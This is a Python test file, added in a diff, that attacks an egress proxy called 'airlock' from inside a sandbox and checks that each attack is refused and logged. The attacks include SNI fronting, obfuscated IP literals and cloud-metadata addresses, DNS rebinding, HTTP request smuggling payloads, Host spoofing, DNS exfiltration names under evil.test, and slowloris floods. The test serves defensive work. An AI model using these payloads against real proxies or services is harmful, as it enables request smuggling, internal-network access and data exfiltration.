@@ -1,0 +1,669 @@
+#!/usr/bin/env python3
+"""End-to-end attacks on the egress proxy (`airlock proxy`), one per bypass
+class in the research notes, against local upstreams: plain HTTP and HTTPS
+servers on 127.0.0.2 (with a test CA made here), a test resolver that logs
+every name it is asked, and a proxy started with real rules.  Each attack
+checks the answer the client gets AND that the proxy wrote exactly one
+record for it, with the expected verdict and reason.  At the end every
+output, log and file of the run is searched for the injected secret.
+
+The attacks from inside a real sandbox (--noproxy, raw TCP/UDP, IPv6, DNS
+through the sandbox's stub) are in sandbox_test.sh.
+
+usage: egress_test.py BIN_DIR
+"""
+import http.server
+import json
+import os
+import secrets
+import shutil
+import socket
+import ssl
+import struct
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+
+BIN = os.path.abspath(sys.argv[1])
+AIRLOCK = os.path.join(BIN, "airlock")
+HERE = os.path.dirname(os.path.abspath(__file__))
+TMP = tempfile.mkdtemp(prefix="airlock-egress-")
+UP = "127.0.0.2"
+SECRET = "sk-test-" + secrets.token_hex(16)
+FAILS = []
+PASSES = 0
+PROCS = []
+
+
+def check(cond, what):
+    global PASSES
+    if cond:
+        PASSES += 1
+    else:
+        FAILS.append(what)
+        print("FAIL:", what, flush=True)
+
+
+def free_port():
+    s = socket.socket()
+    s.bind(("127.0.0.1", 0))
+    p = s.getsockname()[1]
+    s.close()
+    return p
+
+
+def run(cmd, **kw):
+    return subprocess.run(cmd, capture_output=True, text=True, **kw)
+
+
+# ---------------------------------------------------------------- upstreams
+UPSTREAM_SEEN = []  # (path, headers) of every request an upstream got
+
+
+class Handler(http.server.BaseHTTPRequestHandler):
+    protocol_version = "HTTP/1.1"
+
+    def log_message(self, *a):
+        pass
+
+    def answer(self):
+        length = int(self.headers.get("Content-Length") or 0)
+        body = self.rfile.read(length) if length else b""
+        if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
+            while True:
+                size = int(self.rfile.readline().strip(), 16)
+                chunk = self.rfile.read(size + 2)[:size]
+                if size == 0:
+                    break
+                body += chunk
+        UPSTREAM_SEEN.append((self.command, self.path, dict(self.headers.items()), body))
+        if self.path.startswith("/v1/redirect"):
+            self.send_response(302)
+            self.send_header("Location", "https://other.test:%d/steal" % self.server.server_port)
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+            return
+        out = ("hello from %s %s" % (self.command, self.path)).encode()
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(out)))
+        self.end_headers()
+        self.wfile.write(out)
+
+    do_GET = do_POST = do_PUT = answer
+
+
+def serve(port, tls=None):
+    srv = http.server.ThreadingHTTPServer((UP, port), Handler)
+    if tls:
+        srv.socket = tls.wrap_socket(srv.socket, server_side=True)
+    threading.Thread(target=srv.serve_forever, daemon=True).start()
+    return srv
+
+
+def make_certs():
+    def sh(*args):
+        subprocess.run(args, check=True, capture_output=True, cwd=TMP)
+
+    sh("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
+       "-keyout", "ca.key", "-out", "ca.pem", "-days", "1", "-subj", "/CN=airlock egress test CA")
+    sh("openssl", "req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
+       "-keyout", "srv.key", "-out", "srv.csr", "-subj", "/CN=allowed.test")
+    with open(os.path.join(TMP, "ext.cnf"), "w") as f:
+        f.write("subjectAltName=DNS:allowed.test,DNS:api.test,DNS:other.test,DNS:a.wild.test\n")
+    sh("openssl", "x509", "-req", "-in", "srv.csr", "-CA", "ca.pem", "-CAkey", "ca.key", "-CAcreateserial",
+       "-out", "srv.pem", "-days", "1", "-extfile", "ext.cnf")
+    # a server whose certificate no CA we trust signed
+    sh("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
+       "-keyout", "self.key", "-out", "self.pem", "-days", "1", "-subj", "/CN=api.test",
+       "-addext", "subjectAltName=DNS:api.test")
+
+
+# ------------------------------------------------------------------- proxy
+class Proxy:
+    def __init__(self, name, network, extra=()):
+        self.port = free_port()
+        self.dns_port = free_port()
+        self.log = os.path.join(TMP, name + ".log")
+        cfg = os.path.join(TMP, name + ".json")
+        with open(cfg, "w") as f:
+            json.dump({"network": network}, f)
+        ready = os.path.join(TMP, name + ".ready")
+        self.stderr = open(os.path.join(TMP, name + ".stderr"), "w")
+        self.proc = subprocess.Popen(
+            [AIRLOCK, "proxy", "--listen", "127.0.0.1:%d" % self.port, "--dns-listen", "127.0.0.1:%d" % self.dns_port,
+             "--config", cfg, "--log", self.log, "--state-dir", STATE, "--sandbox", name, "--ready-file", ready,
+             *extra], stdout=self.stderr, stderr=self.stderr)
+        PROCS.append(self.proc)
+        for _ in range(100):
+            if os.path.exists(ready):
+                break
+            time.sleep(0.05)
+        else:
+            raise SystemExit("proxy %s did not start: %s" % (name, open(self.stderr.name).read()))
+        self.seen = 0
+
+    def records(self):
+        try:
+            with open(self.log) as f:
+                return [json.loads(l) for l in f if l.strip()]
+        except FileNotFoundError:
+            return []
+
+    def new_records(self, settle=0.15):
+        """Records written since the last call; waits for at least one."""
+        deadline = time.time() + 5
+        while time.time() < deadline and len(self.records()) <= self.seen:
+            time.sleep(0.02)
+        time.sleep(settle)
+        recs = self.records()
+        out = recs[self.seen:]
+        self.seen = len(recs)
+        return out
+
+    def connect(self):
+        s = socket.create_connection(("127.0.0.1", self.port), timeout=10)
+        return s
+
+
+def read_response(s):
+    data = b""
+    try:
+        while True:
+            chunk = s.recv(65536)
+            if not chunk:
+                break
+            data += chunk
+    except (socket.timeout, ConnectionResetError):
+        pass
+    return data
+
+
+def raw(px, payload):
+    s = px.connect()
+    s.sendall(payload)
+    data = read_response(s)
+    s.close()
+    return data
+
+
+def status_of(resp):
+    try:
+        return int(resp.split(b" ", 2)[1])
+    except (IndexError, ValueError):
+        return 0
+
+
+def expect_one(px, what, verdict, reason_part, **fields):
+    recs = px.new_records()
+    check(len(recs) == 1, "%s: exactly one record (got %d: %s)" % (what, len(recs), recs))
+    if not recs:
+        return None
+    r = recs[-1]
+    check(r.get("verdict") == verdict, "%s: verdict %s (record %s)" % (what, verdict, r))
+    check(reason_part in r.get("reason", ""), "%s: reason has '%s' (record %s)" % (what, reason_part, r))
+    for k, v in fields.items():
+        check(r.get(k) == v, "%s: %s == %r (record %s)" % (what, k, v, r))
+    return r
+
+
+def connect_tunnel(px, target):
+    s = px.connect()
+    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
+    head = b""
+    while b"\r\n\r\n" not in head:
+        chunk = s.recv(1)
+        if not chunk:
+            break
+        head += chunk
+    return s, head
+
+
+def tls_through(px, target, sni, verify=True):
+    s, head = connect_tunnel(px, target)
+    if status_of(head) != 200:
+        s.close()
+        return head, None
+    ctx = ssl.create_default_context(cafile=os.path.join(TMP, "ca.pem"))
+    if not verify:
+        ctx.check_hostname = False
+    try:
+        t = ctx.wrap_socket(s, server_hostname=sni)
+        t.sendall(b"GET /x HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (sni or "x").encode())
+        body = read_response(t)
+        t.close()
+        return head, body
+    except (ssl.SSLError, OSError) as e:
+        s.close()
+        return head, e
+
+
+# ---------------------------------------------------------- ClientHellos
+def client_hello(sni, extra=b"", pad=0):
+    """A TLS 1.2-framed ClientHello: SNI (or none), extra raw extensions, and
+    a padding extension of pad bytes (to make a post-quantum-sized hello)."""
+    exts = b""
+    if sni is not None:
+        name = sni.encode()
+        entry = b"\x00" + struct.pack("!H", len(name)) + name
+        lst = struct.pack("!H", len(entry)) + entry
+        exts += struct.pack("!HH", 0, len(lst)) + lst
+    exts += extra
+    if pad:
+        exts += struct.pack("!HH", 21, pad) + b"\x00" * pad
+    body = b"\x03\x03" + os.urandom(32) + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00"
+    body += struct.pack("!H", len(exts)) + exts
+    hs = b"\x01" + struct.pack("!I", len(body))[1:] + body
+    return hs
+
+
+def records_of(hs, size=16384):
+    out = b""
+    for i in range(0, len(hs), size):
+        part = hs[i:i + size]
+        out += b"\x16\x03\x01" + struct.pack("!H", len(part)) + part
+    return out
+
+
+def send_hello(px, target, data, pieces=1):
+    s, head = connect_tunnel(px, target)
+    if status_of(head) != 200:
+        s.close()
+        return head, b""
+    step = max(1, len(data) // pieces)
+    try:
+        for i in range(0, len(data), step):
+            s.sendall(data[i:i + step])
+            time.sleep(0.005)
+        s.settimeout(3)
+        reply = read_response(s)
+    except (ConnectionResetError, BrokenPipeError):
+        reply = b"reset"  # refused while we were still sending
+    s.close()
+    return head, reply
+
+
+ALERT_DENIED = b"\x15\x03\x03\x00\x02\x02\x31"
+
+
+# ------------------------------------------------------------------ tests
+def test_allowed_paths(px):
+    head, body = tls_through(px, "allowed.test:28443", "allowed.test")
+    check(status_of(head) == 200 and isinstance(body, bytes) and b"hello from GET /x" in body,
+          "CONNECT to an allowed host works (got %r %r)" % (head, body))
+    r = expect_one(px, "allowed CONNECT", "allow", "allowed by rule", sni="allowed.test", address=UP)
+    check(r is not None and r.get("bytes_down", 0) > 0 and r.get("bytes_up", 0) > 0, "byte counts recorded")
+
+    resp = raw(px, b"GET http://allowed.test:28080/plain HTTP/1.1\r\nHost: allowed.test:28080\r\n\r\n")
+    check(status_of(resp) == 200 and b"hello from GET /plain" in resp, "plain HTTP to an allowed host works")
+    expect_one(px, "allowed plain HTTP", "allow", "allowed by rule", kind="http", address=UP)
+
+    # case and trailing dot are the same name
+    head, body = tls_through(px, "ALLOWED.test.:28443", "allowed.test")
+    check(status_of(head) == 200 and isinstance(body, bytes) and b"hello" in body, "case/trailing dot normalised")
+    expect_one(px, "normalised name", "allow", "allowed by rule", host="allowed.test")
+
+    # a POST body goes through exactly
+    resp = raw(px, b"POST http://allowed.test:28080/post HTTP/1.1\r\nHost: allowed.test:28080\r\n"
+                   b"Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n")
+    check(status_of(resp) == 200 and UPSTREAM_SEEN and UPSTREAM_SEEN[-1][3] == b"hello", "chunked body forwarded")
+    expect_one(px, "chunked POST", "allow", "allowed by rule")
+
+
+def test_sni(px):
+    # 1. domain fronting: CONNECT an allowed host, TLS for another name
+    head, res = tls_through(px, "allowed.test:28443", "other.test")
+    check(status_of(head) == 200 and not isinstance(res, bytes), "SNI mismatch: no TLS session (got %r)" % (res,))
+    expect_one(px, "SNI differs from CONNECT host", "deny", "differs from the CONNECT host", sni="other.test")
+    head, reply = send_hello(px, "allowed.test:28443", records_of(client_hello("other.test")))
+    check(reply == ALERT_DENIED, "SNI mismatch answered with an access_denied alert (got %r)" % reply)
+    expect_one(px, "SNI mismatch (raw hello)", "deny", "differs")
+    # 2. no SNI, ECH
+    head, reply = send_hello(px, "allowed.test:28443", records_of(client_hello(None)))
+    check(reply == ALERT_DENIED, "no SNI: alert")
+    expect_one(px, "no SNI", "deny", "ClientHello refused")
+    ech = struct.pack("!HH", 0xfe0d, 4) + b"\x00\x01\x02\x03"
+    head, reply = send_hello(px, "allowed.test:28443", records_of(client_hello("allowed.test", extra=ech)))
+    check(reply == ALERT_DENIED, "ECH: alert")
+    expect_one(px, "ECH", "deny", "ClientHello refused")
+    # not TLS at all on an allowed tunnel (plain HTTP with a spoofed Host)
+    head, reply = send_hello(px, "allowed.test:28443", b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n")
+    check(reply == ALERT_DENIED, "plain text in a tunnel: refused")
+    expect_one(px, "not TLS in a tunnel", "deny", "ClientHello refused")
+    # 10. a big hello split across records and TCP segments is fine ...
+    big = records_of(client_hello("allowed.test", pad=3000), size=1000)
+    head, reply = send_hello(px, "allowed.test:28443", big, pieces=7)
+    check(reply != ALERT_DENIED, "fragmented 3 KB hello accepted (forwarded)")
+    expect_one(px, "fragmented big hello", "allow", "allowed by rule", sni="allowed.test")
+    # ... an oversized one is not
+    huge = records_of(client_hello("allowed.test", pad=20000))
+    head, reply = send_hello(px, "allowed.test:28443", huge, pieces=3)
+    check(reply in (ALERT_DENIED, b"reset"), "20 KB hello refused")
+    expect_one(px, "oversized hello", "deny", "ClientHello refused")
+
+
+def test_ip_literals(px):
+    for target in ["127.0.0.1:28443", "2130706433:28443", "0x7f.1:28443", "0177.0.0.1:28443", "[::ffff:127.0.0.1]:28443",
+                   "[64:ff9b::7f00:1]:28443", "[2002:7f00:1::]:28443", "169.254.169.254:80"]:
+        s, head = connect_tunnel(px, target)
+        s.close()
+        check(status_of(head) == 403, "IP literal %s refused (got %r)" % (target, head))
+        expect_one(px, "IP literal " + target, "deny", "")
+    resp = raw(px, b"GET http://2130706433:28080/ HTTP/1.1\r\nHost: 2130706433:28080\r\n\r\n")
+    check(status_of(resp) == 403, "absolute URI with a decimal IP refused")
+    expect_one(px, "decimal IP in absolute URI", "deny", "no rule allows")
+    # an IP rule that allows a private address still meets the address check
+    s, head = connect_tunnel(px, "10.0.0.1:28443")
+    s.close()
+    check(status_of(head) == 403, "allowed-by-rule private IP refused by class")
+    expect_one(px, "private IP allowed by rule", "deny", "forbidden address: private")
+
+
+def test_resolving_inside(px):
+    for name, why in [("rebind.test", "loopback"), ("meta.test", "metadata"), ("private.test", "private"),
+                      ("v6.test", "loopback"), ("mapped.test", "IPv4")]:
+        s, head = connect_tunnel(px, name + ":28443")
+        s.close()
+        check(status_of(head) == 403, "%s (resolves inside) refused, got %r" % (name, head))
+        expect_one(px, "name resolving to " + why, "deny", "resolves only to forbidden addresses")
+    # a name with both a forbidden and an allowed address: only the allowed one is used
+    head, body = tls_through(px, "mixed.test:28443", "mixed.test", verify=False)
+    check(status_of(head) == 200, "mixed.test reaches its allowed address")
+    expect_one(px, "mixed answer", "allow", "allowed by rule", address=UP)
+
+
+def test_suffix_confusion(px):
+    for target in ["allowed.test.evil.test:28443", "evilallowed.test:28443", "allowed.tes:28443", "xn--llowed-test:28443",
+                   "allowed.test:28444", "allowed%2etest:28443", "allowed.test..:28443", "wild.test:28443"]:
+        s, head = connect_tunnel(px, target)
+        s.close()
+        check(status_of(head) in (400, 403), "suffix confusion %s refused (got %r)" % (target, head))
+        expect_one(px, "suffix " + target, "deny", "")
+    head, body = tls_through(px, "a.wild.test:28443", "a.wild.test")
+    check(status_of(head) == 200 and isinstance(body, bytes), "*.wild.test allows a.wild.test")
+    expect_one(px, "wildcard", "allow", "*.wild.test")
+
+
+def test_smuggling(px):
+    cases = [
+        (b"POST http://allowed.test:28080/ HTTP/1.1\r\nHost: allowed.test:28080\r\nContent-Length: 4\r\n"
+         b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n", "Content-Length and Transfer-Encoding"),
+        (b"POST http://allowed.test:28080/ HTTP/1.1\r\nHost: allowed.test:28080\r\nContent-Length: 4\r\n"
+         b"Content-Length: 40\r\n\r\nabcd", "2 Content-Length headers"),
+        (b"GET http://allowed.test:28080/ HTTP/1.1\r\nHost: allowed.test:28080\r\nX-A: b\r\n c\r\n\r\n", "obs-fold"),
+        (b"CONNECT allowed.test:28443\r\nHost: evil.test HTTP/1.1\r\nHost: x\r\n\r\n", ""),
+        (b"GET http://allowed.test:28080/\x00 HTTP/1.1\r\nHost: allowed.test:28080\r\n\r\n", "control"),
+        (b"POST http://allowed.test:28080/ HTTP/1.1\r\nHost: allowed.test:28080\r\nTransfer-Encoding: chunked\r\n"
+         b"Transfer-Encoding: identity\r\n\r\n", "Transfer-Encoding"),
+    ]
+    for payload, why in cases:
+        resp = raw(px, payload)
+        check(status_of(resp) in (400, 501), "smuggling refused: %r (got %r)" % (payload[:60], resp[:40]))
+        expect_one(px, "smuggling " + why, "deny", why, status=status_of(resp))
+    # a request glued behind a body is not forwarded
+    before = len(UPSTREAM_SEEN)
+    resp = raw(px, b"POST http://allowed.test:28080/one HTTP/1.1\r\nHost: allowed.test:28080\r\nContent-Length: 2\r\n\r\n"
+                   b"okGET http://allowed.test:28080/two HTTP/1.1\r\nHost: allowed.test:28080\r\n\r\n")
+    check(status_of(resp) == 200 and len(UPSTREAM_SEEN) == before + 1 and UPSTREAM_SEEN[-1][1] == "/one",
+          "pipelined second request not forwarded")
+    expect_one(px, "pipelined", "allow", "")
+
+
+def test_host_spoof(px):
+    resp = raw(px, b"GET http://allowed.test:28080/ HTTP/1.1\r\nHost: other.test:28080\r\n\r\n")
+    check(status_of(resp) == 400, "Host differing from the absolute URI refused")
+    expect_one(px, "Host spoofing", "deny", "Host header")
+    resp = raw(px, b"GET https://allowed.test:28443/ HTTP/1.1\r\nHost: allowed.test:28443\r\n\r\n")
+    check(status_of(resp) == 400, "https:// absolute URI refused (must CONNECT)")
+    expect_one(px, "https absolute URI", "deny", "CONNECT")
+    resp = raw(px, b"GET http://user:pw@allowed.test:28080/ HTTP/1.1\r\nHost: allowed.test:28080\r\n\r\n")
+    check(status_of(resp) == 400, "userinfo refused")
+    expect_one(px, "userinfo", "deny", "credentials")
+
+
+def test_dns_names_not_resolved(px):
+    """Denied names never reach the resolver: the decision comes first."""
+    token = "c2VjcmV0LWRhdGE" + secrets.token_hex(4)
+    s, head = connect_tunnel(px, token + ".evil.test:443")
+    s.close()
+    check(status_of(head) == 403, "CONNECT to an exfiltration name refused")
+    expect_one(px, "exfil CONNECT", "deny", "evil.test")
+    q = dns_query(px.dns_port, token + ".evil.test")
+    check(q is not None and q[3] & 0x0f == 3, "DNS stub: NXDOMAIN for an exfiltration name")
+    expect_one(px, "exfil DNS", "deny", "", kind="dns")
+    q = dns_query(px.dns_port, "allowed.test")
+    check(q is not None and q[3] & 0x0f == 0 and q[-4:] == bytes([198, 18, 0, 1]), "DNS stub: allowed name answered")
+    expect_one(px, "allowed DNS", "allow", "", kind="dns")
+    with open(QUERY_LOG) as f:
+        asked = f.read().lower()
+    check(token.lower() not in asked, "the exfiltration name never reached the upstream resolver")
+
+
+def dns_query(port, name):
+    q = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
+    for label in name.split("."):
+        q += bytes([len(label)]) + label.encode()
+    q += b"\x00" + struct.pack("!HH", 1, 1)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(3)
+    s.sendto(q, ("127.0.0.1", port))
+    try:
+        return s.recv(600)
+    except socket.timeout:
+        return None
+    finally:
+        s.close()
+
+
+def route_request(px, path, headers=b"", body=b""):
+    req = b"POST %s HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n%sContent-Length: %d\r\n\r\n%s" % (
+        path.encode(), headers, len(body), body)
+    return raw(px, req)
+
+
+def test_injection(px):
+    before = len(UPSTREAM_SEEN)
+    resp = route_request(px, "/llm/v1/messages", b"x-api-key: fake-from-sandbox\r\nAuthorization: Bearer mine\r\n",
+                         b'{"q":1}')
+    check(status_of(resp) == 200 and b"hello from POST /v1/messages" in resp, "route forwards (got %r)" % resp[:80])
+    check(len(UPSTREAM_SEEN) == before + 1, "route: one upstream request")
+    if len(UPSTREAM_SEEN) > before:
+        m, p, h, b = UPSTREAM_SEEN[-1]
+        lower = {k.lower(): v for k, v in h.items()}
+        check(lower.get("x-api-key") == SECRET, "route: the upstream got the real key")
+        check(list(k.lower() for k in h).count("x-api-key") == 1, "route: exactly one key header upstream")
+        check(lower.get("host") == "api.test:28443", "route: Host is the upstream's (got %r)" % lower.get("host"))
+        check(b == b'{"q":1}', "route: body intact")
+        check(lower.get("authorization") == "Bearer mine", "route: other headers pass")
+    check(SECRET.encode() not in resp, "route: the key is not in the response")
+    expect_one(px, "injection route", "allow", "route /llm/", kind="route", route="/llm/")
+    # 8. redirects are passed back, never followed with the key
+    before = len(UPSTREAM_SEEN)
+    resp = route_request(px, "/llm/v1/redirect")
+    check(status_of(resp) == 302 and b"Location: https://other.test" in resp, "redirect passed back")
+    check(len(UPSTREAM_SEEN) == before + 1, "redirect not followed")
+    expect_one(px, "redirect", "allow", "route /llm/")
+    # path tricks cannot leave the route's base
+    resp = route_request(px, "/llm/../admin")
+    check(status_of(resp) == 400, "'..' in a route path refused")
+    expect_one(px, "route traversal", "deny", "path segment")
+    resp = route_request(px, "/nothere/x")
+    check(status_of(resp) == 404, "unknown path refused")
+    expect_one(px, "unknown route", "deny", "no injection route")
+    # a route whose upstream presents an untrusted certificate never gets the key
+    before = len(UPSTREAM_SEEN)
+    resp = route_request(px, "/bad/v1/x")
+    check(status_of(resp) == 502 and b"certificate" in resp, "untrusted upstream certificate: 502 (got %r)" % resp[:120])
+    check(len(UPSTREAM_SEEN) == before, "untrusted upstream got no request")
+    expect_one(px, "untrusted upstream", "deny", "certificate")
+
+
+def test_rate_limits():
+    px = Proxy("ratelimit", dict(BASE_NET, rateLimit={"requestsPerMinute": 0, "perHostRequestsPerMinute": 60,
+                                                      "perHostBurst": 3}))
+    statuses = []
+    for _ in range(5):
+        resp = raw(px, b"GET http://allowed.test:28080/r HTTP/1.1\r\nHost: allowed.test:28080\r\n\r\n")
+        statuses.append(status_of(resp))
+        if status_of(resp) == 429:
+            check(b"Retry-After: " in resp, "429 carries Retry-After")
+    check(statuses == [200, 200, 200, 429, 429], "burst of 5 with burst 3: %r" % statuses)
+    recs = px.new_records()
+    check(len(recs) == 5, "rate limit: one record per request (%d)" % len(recs))
+    check(sum(1 for r in recs if r.get("status") == 429 and "rate limit" in r.get("reason", "")) == 2,
+          "rate limit: two 429 records")
+    # another host has its own bucket
+    head, body = tls_through(px, "a.wild.test:28443", "a.wild.test")
+    check(status_of(head) == 200, "other host not limited")
+    px.new_records()
+    px.proc.terminate()
+
+
+def test_slow_and_floods():
+    px = Proxy("slow", dict(BASE_NET, limits={"headerTimeout": 1, "maxConnections": 4}))
+    # slowloris: a head that never ends
+    s = px.connect()
+    s.sendall(b"GET http://allowed.test:28080/ HTTP/1.1\r\nHost: allowed")
+    t0 = time.time()
+    resp = read_response(s)
+    s.close()
+    check(status_of(resp) == 408 and time.time() - t0 < 3, "slowloris cut at headerTimeout (got %r)" % resp[:30])
+    expect_one(px, "slowloris", "deny", "no complete request head")
+    # half-open CONNECTs: allowed tunnel, no ClientHello ever
+    s, head = connect_tunnel(px, "allowed.test:28443")
+    check(status_of(head) == 200, "tunnel opened")
+    s.settimeout(4)
+    rest = read_response(s)
+    s.close()
+    check(rest == ALERT_DENIED, "silent tunnel closed at headerTimeout")
+    expect_one(px, "half-open tunnel", "deny", "ClientHello")
+    # a flood of idle connections: at most maxConnections held, the rest refused at once
+    socks = [px.connect() for _ in range(4)]
+    time.sleep(0.2)
+    extra = [px.connect() for _ in range(3)]
+    refused = 0
+    for s in extra:
+        s.settimeout(2)
+        if status_of(read_response(s)) == 503:
+            refused += 1
+        s.close()
+    check(refused == 3, "connections over maxConnections refused with 503 (%d/3)" % refused)
+    time.sleep(1.5)
+    for s in socks:
+        s.settimeout(2)
+        check(status_of(read_response(s)) == 408, "held connection timed out")
+        s.close()
+    recs = px.new_records(settle=0.3)
+    check(len(recs) == 7, "flood: one record per connection (%d)" % len(recs))
+    px.proc.terminate()
+
+
+def test_secret_nowhere():
+    """The secret's value appears in no output, log or file of the run
+    (the encrypted store excepted)."""
+    hits = []
+    for root, dirs, files in os.walk(TMP):
+        for fn in files:
+            path = os.path.join(root, fn)
+            if path.startswith(STATE):
+                continue
+            with open(path, "rb") as f:
+                if SECRET.encode() in f.read():
+                    hits.append(path)
+    with open(os.path.join(STATE, "secrets.db"), "rb") as f:
+        check(SECRET.encode() not in f.read(), "secret not in the store in clear")
+    check(not hits, "secret value found in %s" % hits)
+
+
+def main():
+    global STATE, QUERY_LOG, BASE_NET
+    make_certs()
+    STATE = os.path.join(TMP, "state")
+    os.makedirs(STATE, mode=0o700)
+    r = subprocess.run([AIRLOCK, "secret", "set", "anthropic", "--state-dir", STATE], input=SECRET.encode(),
+                       capture_output=True)
+    check(r.returncode == 0, "secret set: %s" % r.stderr)
+
+    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    tls.load_cert_chain(os.path.join(TMP, "srv.pem"), os.path.join(TMP, "srv.key"))
+    bad = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    bad.load_cert_chain(os.path.join(TMP, "self.pem"), os.path.join(TMP, "self.key"))
+    servers = [serve(28080), serve(28443, tls), serve(28444, bad)]
+
+    names = {"allowed.test": [UP], "api.test": [UP], "other.test": [UP], "a.wild.test": [UP],
+             "rebind.test": ["127.0.0.1"], "meta.test": ["169.254.169.254"], "private.test": ["10.0.0.1"],
+             "v6.test": ["::1"], "mapped.test": ["::ffff:10.0.0.1"], "mixed.test": ["10.0.0.1", UP]}
+    with open(os.path.join(TMP, "names.json"), "w") as f:
+        json.dump(names, f)
+    QUERY_LOG = os.path.join(TMP, "queries.log")
+    dns_port = free_port()
+    ready = os.path.join(TMP, "resolver.ready")
+    PROCS.append(subprocess.Popen([sys.executable, os.path.join(HERE, "test_resolver.py"), "127.0.0.1",
+                                   str(dns_port), os.path.join(TMP, "names.json"), QUERY_LOG, ready]))
+    for _ in range(100):
+        if os.path.exists(ready):
+            break
+        time.sleep(0.05)
+
+    BASE_NET = {
+        "allow": ["allowed.test:28443", "allowed.test:28080", "*.wild.test:28443", "rebind.test:28443",
+                  "meta.test:28443", "private.test:28443", "v6.test:28443", "mapped.test:28443", "mixed.test:28443",
+                  "10.0.0.1:28443", "*.evil.test"],
+        "deny": ["*.evil.test"],
+        "allowAddresses": [UP],
+        "resolver": "127.0.0.1:%d" % dns_port,
+        "upstreamCa": os.path.join(TMP, "ca.pem"),
+        "inject": [
+            {"path": "/llm/", "upstream": "https://api.test:28443", "inject": {"header": "x-api-key",
+                                                                                "secret": "anthropic"}},
+            {"path": "/bad/", "upstream": "https://api.test:28444", "inject": {"header": "x-api-key",
+                                                                                "secret": "anthropic"}},
+        ],
+    }
+    px = Proxy("main", BASE_NET)
+    tests = [test_allowed_paths, test_sni, test_ip_literals, test_resolving_inside, test_suffix_confusion,
+             test_smuggling, test_host_spoof, test_dns_names_not_resolved, test_injection]
+    for t in tests:
+        print("--", t.__name__, flush=True)
+        t(px)
+    print("-- test_rate_limits", flush=True)
+    test_rate_limits()
+    print("-- test_slow_and_floods", flush=True)
+    test_slow_and_floods()
+    px.proc.terminate()
+    px.proc.wait(5)
+    check(px.proc.returncode == 0, "proxy exits 0 on SIGTERM")
+    # bad configurations refuse to start, naming the key
+    for net, part in [({"allow": ["a.com:0"]}, "network.allow"), ({"inject": [{"path": "/x/", "upstream":
+                      "https://a.test", "inject": {"header": "h", "secret": "missing"}}]}, "missing"),
+                      ({"limits": {"maxConnections": -1}}, "limits.maxConnections")]:
+        cfg = os.path.join(TMP, "bad.json")
+        with open(cfg, "w") as f:
+            json.dump({"network": net}, f)
+        r = run([AIRLOCK, "proxy", "--listen", "127.0.0.1:%d" % free_port(), "--config", cfg, "--state-dir", STATE],
+                timeout=10)
+        check(r.returncode == 1 and part in r.stderr, "bad config refused naming %s: %r" % (part, r.stderr))
+    r = run([AIRLOCK, "proxy", "--listen", "nowhere"], timeout=10)
+    check(r.returncode != 0 and "nowhere" in r.stderr, "bad --listen refused")
+    r = run([AIRLOCK, "proxy"], timeout=10)
+    check(r.returncode == 2 and "--listen" in r.stderr, "missing --listen refused")
+    test_secret_nowhere()
+    for s in servers:
+        s.shutdown()
+    print("egress_test: %d checks passed, %d failed" % (PASSES, len(FAILS)))
+    return 1 if FAILS else 0
+
+
+if __name__ == "__main__":
+    try:
+        rc = main()
+    finally:
+        for p in PROCS:
+            if p.poll() is None:
+                p.kill()
+        if not FAILS and os.environ.get("KEEP_TMP") != "1":
+            shutil.rmtree(TMP, ignore_errors=True)
+        else:
+            print("kept", TMP)
+    sys.exit(rc)
